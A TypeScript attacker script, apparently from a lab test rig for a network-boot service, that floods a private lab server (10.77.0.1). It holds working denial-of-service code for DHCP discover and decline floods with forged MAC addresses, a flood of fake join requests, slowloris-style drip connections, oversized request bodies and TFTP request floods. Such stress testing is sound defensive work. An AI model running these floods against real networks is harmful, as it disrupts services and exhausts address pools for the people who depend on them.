/**
 * One attacker on the lab network, until it is killed: `node boot-attacker.ts ATTACK`.
 *
 * It runs in a namespace of its own (attacks-boot.ts), against 10.77.0.1.
 */
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { request } from "node:http";
import { connect } from "node:net";
import type { Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { variant } from "../rig/dhcp-vectors.ts";

const SERVER = "10.77.0.1";
const API_PORT = 4080;
const BOOT_PORT = 4081;
const BODY = "POST /node/v1/join HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n";

/** Keeps so many connections open that each send a byte a second, and opens closed ones again. */
async function drip(port: number, count: number, head: string): Promise<void> {
  const open = new Set<Socket>();
  for (;;) {
    while (open.size < count) {
      const socket = connect(port, SERVER);
      open.add(socket);
      socket.on("error", () => undefined);
      socket.once("close", () => open.delete(socket));
      socket.once("connect", () => socket.write(head));
      if (open.size % 200 === 0) await sleep(20);
    }
    for (const socket of open) if (socket.writable) socket.write("x");
    await sleep(1000);
  }
}

/** Sends datagrams by the thousand per second. */
async function datagrams(
  port: number,
  to: string,
  next: (index: number) => Uint8Array,
): Promise<void> {
  const socket = createSocket("udp4");
  socket.bind(0);
  await once(socket, "listening");
  socket.setBroadcast(true);
  for (let index = 0; ; ) {
    for (const end = index + 50; index < end; index += 1) socket.send(next(index), port, to);
    await sleep(5);
  }
}

async function joinFlood(): Promise<void> {
  const lane = async (): Promise<void> => {
    for (let index = 0; ; index += 1) {
      const body = JSON.stringify({
        token: String(index).padStart(32, "0"),
        nonce: "0".repeat(32),
      });
      const asking = request({
        host: SERVER,
        port: API_PORT,
        path: "/node/v1/join",
        method: "POST",
      });
      asking.setHeader("content-type", "application/json");
      asking.on("error", () => undefined);
      asking.on("response", (message) => message.resume());
      asking.end(body);
      await once(asking, "close").catch(() => undefined);
    }
  };
  await Promise.all(Array.from({ length: 50 }, lane));
}

async function tftp(): Promise<void> {
  const ask = Buffer.from("\0\x01undionly.kpxe\0octet\0timeout\x00255\0", "latin1");
  const sockets = Array.from({ length: 256 }, () => createSocket("udp4"));
  for (const socket of sockets) socket.on("error", () => undefined);
  for (;;) {
    for (const socket of sockets) socket.send(ask, 69, SERVER);
    await sleep(1000);
  }
}

const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
  "dhcp-flood": () =>
    datagrams(67, "255.255.255.255", (index) => {
      const mac = [2, 0, 0, index >> 16, index >> 8, index].map((one) => {
        return (one & 255).toString(16).padStart(2, "0");
      });
      return variant("ovmf-pxe-discover", { mac: mac.join(":") });
    }),
  decline: () =>
    datagrams(67, "255.255.255.255", (index) => {
      const mac = `52:54:00:77:01:${(10 + (index % 4)).toString(16)}`;
      const pool = [10, 77, 0, 100 + (index % 100)];
      return variant("ipxe-rom-request", { mac }, { 53: [4], 50: pool, 54: [10, 77, 0, 1] });
    }),
  "join-flood": joinFlood,
  connections: async () => {
    const head = "GET / HTTP/1.1\r\nx: ";
    await Promise.all([drip(API_PORT, 1100, head), drip(BOOT_PORT, 1100, head)]);
  },
  bodies: () => drip(API_PORT, 8192, `${BODY}Content-Length: 900000\r\n\r\n{`),
  tftp,
};

await ATTACKS[process.argv[2] ?? ""]?.();
